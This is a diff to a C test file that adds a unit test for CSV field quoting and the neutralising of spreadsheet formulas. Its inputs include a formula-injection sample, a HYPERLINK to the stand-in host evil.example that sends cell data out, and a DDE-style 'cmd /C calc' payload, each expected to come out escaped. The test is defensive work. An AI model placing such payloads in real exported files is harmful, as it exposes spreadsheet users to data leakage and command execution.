@@ -5,6 +5,7 @@
 
 #include "../../tests/check.h"
 #include "core/arena.h"
+#include "core/csv.h"
 #include "core/diag.h"
 #include "core/lang.h"
 #include "core/outfile.h"
@@ -110,7 +111,45 @@ TEST(outfile_writes_atomically) {
   CHECK(system(cmd) == 0);
 }
 
+static char *field(const char *s, csv_mode mode) {
+  strbuf b;
+  strbuf_init(&b);
+  csv_put_field(&b, s, mode);
+  return strbuf_detach(&b);
+}
+
+#define CHECK_FIELD(in, mode, want)        \
+  do {                                     \
+    char *got_ = field((in), (mode));      \
+    CHECK_STR(got_ ? got_ : "", (want));   \
+    free(got_);                            \
+  } while (0)
+
+TEST(csv_quotes_and_neutralises_formulas_for_people) {
+  CHECK_FIELD("许昌", CSV_EXACT, "许昌");
+  CHECK_FIELD("a,b", CSV_EXACT, "\"a,b\"");
+  CHECK_FIELD("say \"hi\"", CSV_EXACT, "\"say \"\"hi\"\"\"");
+  CHECK_FIELD("=1+1", CSV_EXACT, "=1+1"); /* the manifest: exact */
+  CHECK_FIELD("=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")", CSV_FOR_PEOPLE,
+              "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"x\"\")\"");
+  CHECK_FIELD("@SUM(1+1)*cmd|' /C calc'!A0", CSV_FOR_PEOPLE, "\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
+  CHECK_FIELD("+86 10", CSV_FOR_PEOPLE, "\"'+86 10\"");
+  CHECK_FIELD("-1+cmd", CSV_FOR_PEOPLE, "\"'-1+cmd\"");
+  CHECK_FIELD("\tx", CSV_FOR_PEOPLE, "\"'\tx\"");
+  CHECK_FIELD("\rx", CSV_FOR_PEOPLE, "\"'\rx\"");
+  CHECK_FIELD("\xEF\xBC\x9DSUM(A1)", CSV_FOR_PEOPLE, "\"'\xEF\xBC\x9DSUM(A1)\""); /* ＝ */
+  CHECK_FIELD("-12.5", CSV_FOR_PEOPLE, "-12.5"); /* numbers stay numbers */
+  CHECK_FIELD("+3", CSV_FOR_PEOPLE, "+3");
+  CHECK_FIELD("-1e-3", CSV_FOR_PEOPLE, "-1e-3");
+  CHECK_FIELD("-", CSV_FOR_PEOPLE, "\"'-\"");
+  CHECK_FIELD("a=b", CSV_FOR_PEOPLE, "a=b"); /* only a leading trigger counts */
+  CHECK_FIELD("", CSV_FOR_PEOPLE, "");
+  CHECK(!csv_looks_like_formula("焦作豫重工机械有限公司"));
+  CHECK(csv_looks_like_formula("=1"));
+}
+
 int main(void) {
+  RUN(csv_quotes_and_neutralises_formulas_for_people);
   RUN(diag_formats_file_line_and_applicant);
   RUN(diag_never_prints_raw_control_characters);
   RUN(diag_speaks_chinese_when_asked);
